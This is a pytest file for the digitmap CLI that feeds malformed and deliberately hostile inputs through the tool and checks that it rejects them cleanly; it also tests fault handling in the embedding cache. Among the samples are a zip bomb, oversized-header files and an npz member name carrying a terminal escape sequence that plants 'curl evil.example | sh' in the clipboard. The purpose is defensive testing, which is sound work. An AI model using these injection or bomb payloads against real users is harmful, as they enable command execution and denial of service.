"""The command line against bad input, and the embedding cache against faults, end to end.

Every malformed file or flag, through ``digitmap render``, ``digitmap embed`` and the explorer,
must end in exactly one line on stderr that names the file or flag, exit status 2, no
traceback, and nothing in the cache. Most cases run ``cli.main`` in-process (fast); a few run
the real ``python -m digitmap_tui`` to prove the same holds for the installed entry point.
"""

from __future__ import annotations

import gzip
import json
import os
import signal
import struct
import subprocess
import sys
import textwrap
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from digitmap_tui import cli
from digitmap_tui.cache import TEMP_SUFFIX, EmbeddingCache, embedding_key
from digitmap_tui.data import load_digits
from digitmap_tui.methods.params import EmbedParams
from digitmap_tui.text import is_safe

REPO_ROOT = Path(__file__).resolve().parent.parent
N = 40  # images in the corpus's good files

# ----- the corpus ------------------------------------------------------------------------------


def _idx(shape: tuple[int, ...], code: int = 0x08, data: bytes = b"") -> bytes:
    header = struct.pack(">BBBB", 0, 0, code, len(shape)) + struct.pack(f">{len(shape)}I", *shape)
    return header + data


def build_corpus(d: Path) -> None:
    """Good files (to pair with a bad one) and one file per kind of damage."""
    rng = np.random.default_rng(0)
    save = np.save
    save(d / "ok.npy", rng.random((N, 8, 8)).astype(np.float32))
    save(d / "ok_labels.npy", np.arange(N) % 3)
    save(d / "emb_ok.npy", rng.random((N, 2)))
    # .npy images
    (d / "empty.npy").write_bytes(b"")
    save(d / "1d.npy", np.arange(10.0))
    save(d / "4d.npy", np.zeros((3, 2, 2, 2)))
    save(d / "objects.npy", np.array([{"a": 1}, None], dtype=object), allow_pickle=True)
    save(d / "complex.npy", np.zeros((10, 4, 4), dtype=complex))
    save(d / "strings.npy", np.array([["a"] * 4] * 10))
    nan = rng.random((N, 8, 8))
    nan[3, 2, 2] = np.nan
    save(d / "nan.npy", nan)
    inf = rng.random((N, 8, 8))
    inf[5, 1, 1] = np.inf
    save(d / "inf.npy", inf)
    save(d / "flat10.npy", rng.random((N, 10)))
    save(d / "tiny.npy", rng.random((3, 4, 4)))
    save(d / "zero.npy", np.zeros((0, 4, 4)))
    (d / "truncated.npy").write_bytes((d / "ok.npy").read_bytes()[:300])
    (d / "badmagic.npy").write_bytes(b"NOTNUMPY" + bytes(100))
    (d / "adir.npy").mkdir()
    os.mkfifo(d / "fifo.npy")
    (d / "notes.txt").write_text("hello\n")
    # CSV
    (d / "empty.csv").write_text("")
    (d / "text.csv").write_text("label,p0,p1,p2,p3\n1,0,1,2,3\n2,0,abc,1,1\n")
    (d / "ragged.csv").write_text("label,p0,p1,p2,p3\n1,0,1,2,3\n2,0,1\n")
    (d / "semicolon.csv").write_text("1;0;1;2;3\n2;0;1;2;3\n")
    (d / "header_only.csv").write_text("label,p0,p1,p2,p3\n")
    rows = "\n".join(f"{i % 3},0,1,nan,3" for i in range(10))
    (d / "nan.csv").write_text("label,p0,p1,p2,p3\n" + rows + "\n")
    (d / "corrupt.csv.gz").write_bytes(b"\x1f\x8b\x08\x00garbage")
    # .npz
    (d / "garbage.npz").write_bytes(b"PK\x03\x04garbage")
    with open(d / "objects.npz", "wb") as f:
        np.savez(f, images=np.array([{"a": 1}] * 10, dtype=object))
    np.savez(d / "flat.npz", images=np.arange(10.0))
    # IDX
    img = (rng.random((20, 6, 6)) * 255).astype(np.uint8)
    good = _idx((20, 6, 6), 0x08, img.tobytes())
    (d / "trunc-images-idx3-ubyte").write_bytes(good[:200])
    (d / "magic-images-idx3-ubyte").write_bytes(b"\x12\x34" + good[2:])
    gz = gzip.compress(good)
    (d / "crc-images-idx3-ubyte.gz").write_bytes(gz[:40] + b"\xff" * 20 + gz[60:])
    (d / "cut-images-idx3-ubyte.gz").write_bytes(gz[: len(gz) // 2])
    (d / "plain-images-idx3-ubyte.gz").write_bytes(b"this is not gzip at all")
    (d / "extra-images-idx3-ubyte").write_bytes(good + b"xx")
    (d / "zero-images-idx3-ubyte").write_bytes(_idx((0, 6, 6)))
    (d / "huge-images-idx3-ubyte").write_bytes(_idx((2**32 - 1, 2**16, 2**16)))
    nanf = np.full((10, 4, 4), np.nan, dtype=">f4").tobytes()
    (d / "nanf-images-idx3-ubyte").write_bytes(_idx((10, 4, 4), 0x0D, nanf))
    (d / "mnist").mkdir()
    (d / "mnist" / "train-images-idx3-ubyte").write_bytes(good)
    (d / "mnist" / "train-labels-idx1-ubyte").write_bytes(_idx((7,), 0x08, bytes(7)))
    # labels
    save(d / "labels_short.npy", np.arange(10))
    save(d / "labels_negative.npy", -np.arange(N))
    save(d / "labels_half.npy", np.arange(N) + 0.5)
    save(d / "labels_2d.npy", np.zeros((N, 3)))
    save(d / "labels_objects.npy", np.array([None] * N, dtype=object), allow_pickle=True)
    (d / "labels_text.txt").write_text("\n".join(["1"] * (N - 1) + ["cat"]) + "\n")
    # embeddings
    save(d / "emb_short.npy", rng.random((10, 2)))
    save(d / "emb_3col.npy", rng.random((N, 3)))
    save(d / "emb_1d.npy", rng.random(N))
    emb_nan = rng.random((N, 2))
    emb_nan[7, 0] = np.nan
    save(d / "emb_nan.npy", emb_nan)
    save(d / "emb_objects.npy", np.array([None] * N, dtype=object), allow_pickle=True)
    (d / "emb_text.csv").write_text("x,y\n" + "1,2\n" * (N - 1) + "foo,3\n")
    build_hostile_corpus(d)


#: An npz member name that writes `curl ... | sh` into the terminal's clipboard (OSC 52).
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"


def build_hostile_corpus(d: Path) -> None:
    """Files made to hurt: terminal injection, overflow, sizes no image needs."""
    import io
    import zipfile

    from tests.hostile_files import npy_header, zip64_member

    rng = np.random.default_rng(1)
    good = io.BytesIO()
    np.save(good, rng.random((N, 8, 8)))
    with zipfile.ZipFile(d / "osc52.npz", "w") as zf:
        zf.writestr(f"{OSC52}.npy", good.getvalue())
        zf.writestr("other.npy", good.getvalue())
    with zipfile.ZipFile(d / "lzma.npz", "w", zipfile.ZIP_LZMA) as zf:
        zf.writestr("images.npy", good.getvalue())
    with zipfile.ZipFile(d / "liar.npz", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("images.npy", npy_header((3 * 2**26, 16)) + bytes(1024))
    (d / "bomb.npz").write_bytes(
        zip64_member("images.npy", zlib.compress(bytes(10**6))[2:-4], 24 * 2**30)
    )
    big = rng.random((N, 8, 8))
    big[4, 1, 1] = 1e300
    np.save(d / "e300.npy", big)
    huge_ints = np.zeros((N, 8, 8), dtype=np.int64)
    huge_ints[2, 0, 0] = 9 * 10**18
    np.save(d / "int64_huge.npy", huge_ints)
    header = npy_header((3, 2000, 2000), "|u1")
    with open(d / "pixels.npy", "wb") as f:  # sparse: 12 MB long, nothing written
        f.write(header)
        f.truncate(len(header) + 3 * 2000 * 2000)
    np.save(d / "labels_million.npy", np.arange(N) * 25_000)
    emb = rng.random((N, 2))
    emb[9] = (1.7e308, -1.7e308)
    np.save(d / "emb_huge.npy", emb)
    (d / "blank.csv").write_text("\n" * 1200 + "1,0,1,2,3\n")
    (d / "wide.csv.gz").write_bytes(gzip.compress(b"0," * 1_100_000 + b"0\n"))
    (d / "longline.csv.gz").write_bytes(gzip.compress(b"0" * (33 * 2**20)))
    gz_images = _idx((5_000_000, 28, 28), 0x08)  # 3.9 GB promised by a tiny gzip
    (d / "tall-images-idx3-ubyte.gz").write_bytes(gzip.compress(gz_images + bytes(1000)))
    (d / "gzmagic-images-idx3-ubyte.gz").write_bytes(
        gzip.compress(b"\x12\x34" + _idx((20, 6, 6))[2:] + bytes(720))
    )
    opened = d / "opencache"
    opened.mkdir()
    opened.chmod(0o777)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("corpus")
    build_corpus(d)
    return d


# Each case: (id, arguments after the subcommand, a fragment the one line must contain).
# "{d}/" is the corpus directory. Data cases run through render, embed and the explorer.
DATA_CASES: list[tuple[str, str, str]] = [
    ("npy-empty-file", "--data {d}/empty.npy", "empty file"),
    ("npy-1d", "--data {d}/1d.npy", "got shape (10,)"),
    ("npy-4d", "--data {d}/4d.npy", "got shape (3, 2, 2, 2)"),
    ("npy-python-objects", "--data {d}/objects.npy", "objects.npy: holds Python objects"),
    ("npy-complex", "--data {d}/complex.npy", "complex"),
    ("npy-strings", "--data {d}/strings.npy", "strings"),
    ("npy-nan", "--data {d}/nan.npy", "image 3 contains NaN"),
    ("npy-inf", "--data {d}/inf.npy", "image 5 contains NaN or infinite"),
    ("npy-not-square", "--data {d}/flat10.npy", "not a square"),
    ("npy-shape-mismatch", "--data {d}/flat10.npy --shape 3x3", "--shape 3x3 needs 9"),
    ("npy-no-images", "--data {d}/zero.npy", "no images"),
    ("npy-truncated", "--data {d}/truncated.npy", "truncated .npy"),
    ("npy-bad-magic", "--data {d}/badmagic.npy", "bad magic"),
    ("npy-directory", "--data {d}/adir.npy", "no images in the folder"),
    ("npy-missing", "--data {d}/missing.npy", "no such file"),
    ("npy-fifo", "--data {d}/fifo.npy", "not a regular file"),
    ("unsupported-type", "--data {d}/notes.txt", "unsupported file type"),
    ("csv-empty", "--data {d}/empty.csv", "empty file"),
    ("csv-text-in-numbers", "--data {d}/text.csv --shape 2x2", "non-numeric value 'abc'"),
    ("csv-ragged", "--data {d}/ragged.csv --shape 2x2", "ragged"),
    ("csv-semicolons", "--data {d}/semicolon.csv", "separated by commas"),
    ("csv-header-only", "--data {d}/header_only.csv", "no data rows"),
    ("csv-nan", "--data {d}/nan.csv --shape 2x2", "NaN"),
    ("csv-gz-corrupt", "--data {d}/corrupt.csv.gz", "corrupt.csv.gz"),
    ("npz-damaged-zip", "--data {d}/garbage.npz", "damaged zip"),
    ("npz-python-objects", "--data {d}/objects.npz", "Python objects"),
    ("npz-1d", "--data {d}/flat.npz", "got shape (10,)"),
    ("idx-truncated", "--data {d}/trunc-images-idx3-ubyte", "truncated IDX"),
    ("idx-bad-magic", "--data {d}/magic-images-idx3-ubyte", "bad magic 0x12340803"),
    ("idx-gzip-crc", "--data {d}/crc-images-idx3-ubyte.gz", "corrupt gzip"),
    ("idx-gzip-truncated", "--data {d}/cut-images-idx3-ubyte.gz", "truncated"),
    ("idx-not-gzip", "--data {d}/plain-images-idx3-ubyte.gz", "corrupt gzip"),
    ("idx-trailing-bytes", "--data {d}/extra-images-idx3-ubyte", "2 bytes beyond"),
    ("idx-no-images", "--data {d}/zero-images-idx3-ubyte", "no images"),
    ("idx-huge-header", "--data {d}/huge-images-idx3-ubyte", "truncated IDX"),
    ("idx-nan-floats", "--data {d}/nanf-images-idx3-ubyte", "NaN"),
    ("idx-sibling-labels-count", "--data {d}/mnist/train-images-idx3-ubyte", "7 labels"),
    ("labels-count", "--data {d}/ok.npy --labels {d}/labels_short.npy", "10 labels but"),
    ("labels-negative", "--data {d}/ok.npy --labels {d}/labels_negative.npy", "negative label"),
    ("labels-fractional", "--data {d}/ok.npy --labels {d}/labels_half.npy", "non-integer"),
    ("labels-2d", "--data {d}/ok.npy --labels {d}/labels_2d.npy", "must be 1-D"),
    ("labels-objects", "--data {d}/ok.npy --labels {d}/labels_objects.npy", "Python objects"),
    ("labels-text", "--data {d}/ok.npy --labels {d}/labels_text.txt", "'cat'"),
    ("labels-unsupported", "--data {d}/ok.npy --labels {d}/adir.npy", "is a directory"),
    ("labels-without-data", "--labels {d}/ok_labels.npy", "--labels and --shape need --data"),
    ("shape-malformed", "--data {d}/ok.npy --shape 3xx", "--shape"),
    ("shape-zero", "--data {d}/ok.npy --shape 0x8", "must be positive"),
    ("too-few-points", "--data {d}/tiny.npy --method pca", "at least 5 points"),
    ("unknown-method", "--data {d}/ok.npy --method foo", "unknown method 'foo'"),
    ("missing-library", "--data {d}/ok.npy --method pacmap", "pacmap"),
    ("perplexity-too-large", "--data {d}/ok.npy --perplexity 1000", "too large for 40 points"),
    ("perplexity-zero", "--data {d}/ok.npy --perplexity 0", "perplexity must be"),
    ("perplexity-nan", "--data {d}/ok.npy --perplexity nan", "--perplexity"),
    ("n-neighbors-vs-n", "--data {d}/ok.npy --method umap --n-neighbors 500", "n_neighbors"),
    ("n-neighbors-one", "--data {d}/ok.npy --method umap --n-neighbors 1", "--n-neighbors"),
    ("min-dist-range", "--data {d}/ok.npy --method umap --min-dist 7", "min_dist"),
    ("seed-negative", "--data {d}/ok.npy --seed -1", "--seed"),
    ("seed-fractional", "--data {d}/ok.npy --seed 1.5", "--seed"),
    ("seed-too-large", "--data {d}/ok.npy --seed 4294967296", "--seed"),
    ("cache-dir-is-a-file", "--data {d}/ok.npy --cache-dir {d}/notes.txt", "--cache-dir"),
    # hostile files and values (issue: nothing raw reaches the terminal, bounded cost)
    ("npz-member-name-osc52", "--data {d}/osc52.npz", "found \\x1b]52;c;Y3Vyb"),
    ("npz-lzma-member", "--data {d}/lzma.npz", "compression method 14"),
    ("npz-header-promises-24GiB", "--data {d}/liar.npz", "its header promises"),
    ("npz-zip-bomb", "--data {d}/bomb.npz", "zip bomb"),
    ("images-squares-overflow", "--data {d}/e300.npy", "image 4 has the value 1e+300"),
    ("images-int64-beyond-1e15", "--data {d}/int64_huge.npy", "image 2 has the value 9e+18"),
    ("images-too-many-pixels", "--data {d}/pixels.npy", "at most 1,048,576 per image"),
    ("labels-beyond-palette", "--data {d}/ok.npy --labels {d}/labels_million.npy", "0 to 255"),
    ("csv-blank-lines", "--data {d}/blank.csv", "blank lines by line 1001"),
    ("csv-too-many-columns", "--data {d}/wide.csv.gz", "1,100,001 columns"),
    ("csv-gz-huge-line", "--data {d}/longline.csv.gz", "line 1 is longer than"),
    ("idx-gz-size-beyond-file", "--data {d}/tall-images-idx3-ubyte.gz", "gzip file can hold"),
    ("idx-gz-bad-magic", "--data {d}/gzmagic-images-idx3-ubyte.gz", "bad magic 0x12340803"),
    ("shape-superscript", "--data {d}/ok.npy --shape ²x2", "--shape"),
    ("shape-other-digits", "--data {d}/ok.npy --shape ٣x٣", "--shape"),
    ("perplexity-below-a-third", "--data {d}/ok.npy --perplexity 0.2", "perplexity >= 1/3"),
    ("seed-other-digits", "--data {d}/ok.npy --seed ٣", "--seed"),
    ("cache-dir-others-can-write", "--data {d}/ok.npy --cache-dir {d}/opencache", "not safe"),
    ("unknown-flag", "--data {d}/ok.npy --bogus", "unrecognized arguments: --bogus"),
    ("stray-argument", "--data {d}/ok.npy stray", "unrecognized arguments: stray"),
]
EMBEDDING_CASES: list[tuple[str, str, str]] = [
    ("embedding-count", "--data {d}/ok.npy --embedding {d}/emb_short.npy", "has 10 points"),
    ("embedding-3-columns", "--data {d}/ok.npy --embedding {d}/emb_3col.npy", "(N, 2)"),
    ("embedding-1d", "--data {d}/ok.npy --embedding {d}/emb_1d.npy", "(N, 2)"),
    ("embedding-nan", "--data {d}/ok.npy --embedding {d}/emb_nan.npy", "point 7 has NaN"),
    ("embedding-objects", "--data {d}/ok.npy --embedding {d}/emb_objects.npy", "objects"),
    ("embedding-text", "--data {d}/ok.npy --embedding {d}/emb_text.csv", "'foo'"),
    ("embedding-directory", "--data {d}/ok.npy --embedding {d}/adir.npy", "is a directory"),
    ("embedding-type", "--data {d}/ok.npy --embedding {d}/notes.txt", "unsupported embedding"),
    ("embedding-overflows", "--data {d}/ok.npy --embedding {d}/emb_huge.npy", "within ±1e+150"),
]
# Flags of the two commands that draw (render, the explorer); the data is fine.
GOOD = "--data {d}/ok.npy --embedding {d}/emb_ok.npy"
VIEW_CASES: list[tuple[str, str, str]] = [
    ("grid-zero", f"{GOOD} --grid 0x4", "--grid '0x4'"),
    ("grid-huge", f"{GOOD} --grid 1000x1000", "between 1 and 64"),
    ("grid-words", f"{GOOD} --grid abc", "--grid 'abc'"),
    ("grid-three-numbers", f"{GOOD} --grid 4x4x4", "--grid"),
    ("grid-superscript", f"{GOOD} --grid ²x2", "--grid '²x2'"),
    ("grid-other-digits", f"{GOOD} --grid ٣x٣", "--grid '٣x٣'"),
    ("view-reversed", f"{GOOD} --view 1,0,0,1", "X0 < X1"),
    ("view-three-numbers", f"{GOOD} --view 0,1,0", "four numbers"),
    ("view-nan", f"{GOOD} --view 0,nan,0,1", "finite"),
    ("view-overflows", f"{GOOD} --view -1e308,1e308,-1e308,1e308", "too large"),
    ("view-too-thin", f"{GOOD} --view 0,1e-310,0,1e-310", "too small to draw"),
    ("view-below-resolution", f"{GOOD} --view 1e300,1.0000000000000002e300,0,1", "too small"),
    ("box-overflows", f"{GOOD} --box -1e308,1e308,-1e308,1e308", "--box"),
    ("box-infinite", f"{GOOD} --box 0,1,0,inf", "--box"),
    ("mode-choice", f"{GOOD} --mode rainbow", "--mode"),
    ("sort-choice", f"{GOOD} --sort size", "--sort"),
    ("glyphs-choice", f"{GOOD} --glyphs braille", "--glyphs"),
    ("colors-choice", f"{GOOD} --colors 88", "--colors"),
    ("bookmark-unknown", f"{GOOD} --bookmark nowhere", "nowhere"),
]
RENDER_CASES: list[tuple[str, str, str]] = [
    ("width-too-small", f"{GOOD} --width 5", "--width"),
    ("width-too-large", f"{GOOD} --width 100000", "--width"),
    ("height-negative", f"{GOOD} --height -3", "--height"),
    ("k-zero", f"{GOOD} --misfits --k 0", "--k"),
    ("misfits-without-labels", f"{GOOD} --misfits", "--misfits needs labels"),
]
EMBED_CASES: list[tuple[str, str, str]] = [
    ("out-suffix", "--data {d}/ok.npy --method pca --out {d}/coords.txt", "use a .npy or .csv"),
    ("out-exists", "--data {d}/ok.npy --method pca --out {d}/emb_ok.npy", "file exists"),
    ("out-directory", "--data {d}/ok.npy --method pca --out {d}/adir.npy --force", "directory"),
    ("out-no-parent", "--data {d}/ok.npy --method pca --out {d}/nowhere/x.npy", "does not exist"),
    ("out-parent-file", "--data {d}/ok.npy --method pca --out {d}/notes.txt/x.npy", "not a dir"),
    ("embed-with-embedding", GOOD, "drop --embedding"),
]


def _cases() -> list[tuple[str, str, str, str]]:
    out = []
    for command in ("render", "embed", "explore"):
        for name, args, fragment in DATA_CASES:
            out.append((command, name, args, fragment))
    for command in ("render", "explore"):
        for name, args, fragment in EMBEDDING_CASES + VIEW_CASES:
            out.append((command, name, args, fragment))
    out += [("render", *case) for case in RENDER_CASES]
    out += [("embed", *case) for case in EMBED_CASES]
    return out


CASES = _cases()
#: Kinds of malformed input (a kind run through several commands counts once).
KINDS = {name for _, name, _, _ in CASES}


def run_main(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """``digitmap ARGV`` in-process: (exit status, stdout, stderr)."""
    try:
        status = cli.main(argv)
    except SystemExit as exc:  # argparse's usage errors
        status = int(exc.code or 0)
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def embedding_entries() -> list[Path]:
    """What the (isolated) cache holds under embeddings/, temp files included."""
    entries = Path(os.environ["DIGITMAP_CACHE_DIR"]) / "embeddings"
    return sorted(entries.iterdir()) if entries.is_dir() else []


def assert_one_line_error(status: int, out: str, err: str, fragment: str) -> None:
    lines = err.splitlines()
    assert status == 2, f"exit status {status}; stderr: {err!r}"
    assert len(lines) == 1, f"expected one line on stderr, got {err!r}"
    assert lines[0].startswith("digitmap: error: "), lines[0]
    assert fragment in lines[0], f"{fragment!r} not in {lines[0]!r}"
    assert "Traceback" not in err
    assert out == ""


@pytest.fixture
def explorer_has_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """The explorer's cases must reach the loaders; the app itself must never start."""
    from digitmap_tui.app import DigitmapApp

    def refuse(self: object, *args: object, **kwargs: object) -> None:
        raise AssertionError("the explorer started on bad input")

    monkeypatch.setattr(cli, "has_terminal", lambda: True)
    monkeypatch.setattr(DigitmapApp, "run", refuse)


def test_the_corpus_has_at_least_25_kinds_of_bad_input() -> None:
    assert len(KINDS) >= 25


@pytest.mark.parametrize(
    ("command", "name", "args", "fragment"),
    CASES,
    ids=[f"{command}-{name}" for command, name, _, _ in CASES],
)
def test_bad_input_is_one_line_exit_2_and_caches_nothing(
    command: str,
    name: str,
    args: str,
    fragment: str,
    corpus: Path,
    capsys: pytest.CaptureFixture[str],
    explorer_has_a_terminal: None,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    argv = [command, *args.format(d=corpus).split()]
    if name == "missing-library":  # CI installs the pacmap extra: take it away for this case
        monkeypatch.setitem(sys.modules, "pacmap", None)
    if command == "explore" and name == "unknown-flag":
        argv = argv[1:]  # `digitmap --bogus`: the explorer is the default command
    before = {p: p.stat().st_mtime_ns for p in corpus.iterdir() if p.is_file()}
    status, out, err = run_main(argv, capsys)
    assert_one_line_error(status, out, err, fragment)
    assert embedding_entries() == []
    after = {p: p.stat().st_mtime_ns for p in corpus.iterdir() if p.is_file()}
    assert after == before, "a bad run changed a file on disk"


def test_a_file_name_with_a_newline_still_gives_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "two\nlines.npy"
    bad.write_bytes(b"")
    status, out, err = run_main(["render", "--data", str(bad)], capsys)
    assert_one_line_error(status, out, err, "empty file")


def test_an_unreadable_file_says_permission_denied(
    corpus: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Tests run as root, where chmod 000 still reads: fake the refusal where data.py opens files.
    import builtins

    import digitmap_tui.data as data

    def refusing_open(file: object, *args: object, **kwargs: object) -> object:
        if str(file).endswith("ok.npy"):
            raise PermissionError(13, "Permission denied", str(file))
        return builtins.open(file, *args, **kwargs)  # type: ignore[call-overload]

    monkeypatch.setattr(data, "open", refusing_open, raising=False)
    status, out, err = run_main(["render", "--data", str(corpus / "ok.npy")], capsys)
    assert_one_line_error(status, out, err, "ok.npy: permission denied")


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads files whatever their mode")
def test_an_unreadable_file_for_real(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    secret = tmp_path / "secret.npy"
    np.save(secret, np.zeros((10, 4, 4)))
    secret.chmod(0)
    status, out, err = run_main(["render", "--data", str(secret)], capsys)
    assert_one_line_error(status, out, err, "permission denied")


def test_embed_out_refuses_to_overwrite_and_leaves_the_file_alone(
    corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = corpus / "emb_ok.npy"
    before = target.read_bytes()
    status, out, err = run_main(
        ["embed", "--data", str(corpus / "ok.npy"), "--method", "pca", "--out", str(target)],
        capsys,
    )
    assert_one_line_error(status, out, err, "file exists (use --force to overwrite)")
    assert target.read_bytes() == before
    assert embedding_entries() == []  # refused before anything was computed


def test_embed_out_with_force_overwrites(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    target = tmp_path / "coords.npy"
    np.save(target, np.zeros((3, 2)))
    status, _, err = run_main(
        ["embed", "--method", "pca", "--no-cache", "--out", str(target), "--force"], capsys
    )
    assert status == 0, err
    assert np.load(target, allow_pickle=False).shape == (1797, 2)


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["render", "--data", "{d}/objects.npy"], "holds Python objects"),
        (["render", "--data", "{d}/crc-images-idx3-ubyte.gz"], "corrupt gzip"),
        (["embed", "--data", "{d}/ok.npy", "--perplexity", "1000"], "too large"),
        (["--bogus"], "unrecognized arguments"),
    ],
    ids=["pickle", "gzip", "perplexity", "unknown-flag"],
)
def test_the_real_entry_point_prints_one_line_and_exits_2(
    corpus: Path, tmp_path: Path, args: list[str], fragment: str
) -> None:
    env = {k: v for k, v in os.environ.items() if k != "DIGITMAP_DEBUG"}
    env.update(PYTHONPATH=str(REPO_ROOT), DIGITMAP_CACHE_DIR=str(tmp_path / "cache"))
    proc = subprocess.run(
        [sys.executable, "-m", "digitmap_tui", *(a.format(d=corpus) for a in args)],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    assert_one_line_error(proc.returncode, proc.stdout, proc.stderr, fragment)
    assert not (tmp_path / "cache" / "embeddings").exists()


# ----- regressions found by the corpus -----------------------------------------------------------


def test_render_reports_a_bad_flag_before_loading_the_data(
    corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The data would fail too (perplexity 30 on 40 points): the flag's problem comes first.
    status, out, err = run_main(
        ["render", "--data", str(corpus / "ok.npy"), "--grid", "4x"], capsys
    )
    assert_one_line_error(status, out, err, "--grid '4x'")


def test_a_huge_box_in_a_tiny_view_renders(corpus: Path, capsys) -> None:
    # Box.from_rect once rounded ±inf cells: OverflowError, exit status 1.
    args = ["render", *GOOD.format(d=corpus).split(), "--view", "0,1e-300,0,1e-300"]
    status, out, err = run_main([*args, "--box", "0,1e10,0,1e10", "--json"], capsys)
    assert status == 0, err
    assert json.loads(out)["count"] == N  # every point lies in the box


# ----- the cache through the command line --------------------------------------------------------


def digits_pca_entry(cache_dir: Path) -> Path:
    dataset = load_digits(cache_dir)
    key = embedding_key(dataset.fingerprint(), EmbedParams(method="pca"))
    path = EmbeddingCache(cache_dir).path_for(key)
    assert path is not None
    return path


def _pickled(path: Path) -> bytes:
    import io

    buffer = io.BytesIO()
    np.savez(buffer, coords=np.array([{"x": 1}], dtype=object), meta=np.array("{}"))
    return buffer.getvalue()


def _foreign(path: Path) -> bytes:
    import io

    buffer = io.BytesIO()
    with np.load(path, allow_pickle=False) as npz:
        meta = json.loads(str(npz["meta"]))
        coords = npz["coords"]
    meta["format"] = 999
    np.savez(buffer, coords=coords, meta=np.array(json.dumps(meta)))
    return buffer.getvalue()


CACHE_DAMAGE: dict[str, Callable[[Path], bytes]] = {
    "truncated": lambda path: path.read_bytes()[: path.stat().st_size // 2],
    "garbage": lambda path: os.urandom(2000),
    "foreign-version": _foreign,
    "pickle": _pickled,
}


@pytest.mark.parametrize("damage", sorted(CACHE_DAMAGE))
def test_a_damaged_cache_entry_is_recomputed_by_render(
    damage: str, capsys: pytest.CaptureFixture[str]
) -> None:
    cache_dir = Path(os.environ["DIGITMAP_CACHE_DIR"])
    status, first, err = run_main(["render", "--method", "pca", "--json"], capsys)
    assert status == 0, err
    entry = digits_pca_entry(cache_dir)
    good = np.load(entry, allow_pickle=False)["coords"]
    entry.write_bytes(CACHE_DAMAGE[damage](entry))
    key = entry.stem
    assert EmbeddingCache(cache_dir).load(key) is None
    status, again, err = run_main(["render", "--method", "pca", "--json"], capsys)
    assert status == 0, err
    assert json.loads(again) == json.loads(first)
    reloaded = EmbeddingCache(cache_dir).load(key)
    assert reloaded is not None
    np.testing.assert_allclose(reloaded, good)


def _digitmap(args: list[str], cache_dir: Path, **kwargs: object) -> subprocess.Popen[str]:
    env = {k: v for k, v in os.environ.items() if k != "DIGITMAP_DEBUG"}
    env.update(PYTHONPATH=str(REPO_ROOT), DIGITMAP_CACHE_DIR=str(cache_dir))
    return subprocess.Popen(
        [sys.executable, "-m", "digitmap_tui", *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
        env=env,
        **kwargs,  # type: ignore[arg-type]
    )


def test_two_processes_computing_the_same_entry_both_succeed(tmp_path: Path) -> None:
    cache_dir = tmp_path / "shared-cache"
    procs = [_digitmap(["embed", "--method", "pca"], cache_dir) for _ in range(2)]
    for proc in procs:
        _, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err
        assert "1797 points ready" in err
    entry = digits_pca_entry(cache_dir)
    assert [p.name for p in entry.parent.iterdir()] == [entry.name]  # one file, no temp left
    coords = EmbeddingCache(cache_dir).load(entry.stem)
    assert coords is not None and coords.shape == (1797, 2)


def test_a_process_killed_mid_write_leaves_nothing_read_as_valid(tmp_path: Path) -> None:
    cache_dir = tmp_path / "cache"
    # `digitmap embed` whose cache write stops just before the rename; then it is killed.
    code = textwrap.dedent(
        """
        import os, sys, time
        replace = os.replace
        def hang(src, dst):
            if os.path.basename(os.path.dirname(dst)) == "embeddings":
                print("written", flush=True)
                time.sleep(600)
            return replace(src, dst)
        os.replace = hang
        from digitmap_tui.cli import main
        sys.exit(main(["embed", "--method", "pca"]))
        """
    )
    env = dict(os.environ, PYTHONPATH=str(REPO_ROOT), DIGITMAP_CACHE_DIR=str(cache_dir))
    writer = subprocess.Popen(
        [sys.executable, "-c", code], stdout=subprocess.PIPE, text=True, env=env
    )
    try:
        assert writer.stdout is not None
        assert writer.stdout.readline().strip() == "written"
    finally:
        writer.send_signal(signal.SIGKILL)
        writer.wait(timeout=10)
    entry = digits_pca_entry(cache_dir)
    leftovers = list(entry.parent.iterdir())
    assert leftovers and all(p.name.endswith(TEMP_SUFFIX) for p in leftovers)
    assert EmbeddingCache(cache_dir).load(entry.stem) is None
    proc = _digitmap(["render", "--method", "pca", "--json"], cache_dir)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 0, err
    assert json.loads(out)["n"] == 1797
    assert EmbeddingCache(cache_dir).load(entry.stem) is not None


# ----- untrusted text never reaches the terminal raw ---------------------------------------------


def test_the_osc52_member_name_through_the_real_cli_is_one_escaped_line(corpus: Path) -> None:
    """The member name that put `curl ... | sh` in the clipboard is now shown, not obeyed."""
    env = {k: v for k, v in os.environ.items() if k != "DIGITMAP_DEBUG"}
    env["PYTHONPATH"] = str(REPO_ROOT)
    proc = subprocess.run(
        [sys.executable, "-m", "digitmap_tui", "render", "--data", str(corpus / "osc52.npz")],
        capture_output=True,
        env=env,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 2
    assert proc.stdout == b""
    assert b"\x1b" not in proc.stderr and b"\x07" not in proc.stderr
    err = proc.stderr.decode()
    assert_one_line_error(2, "", err, "found \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07")


def test_a_file_name_with_controls_is_escaped_in_render_output(
    tmp_path: Path, corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
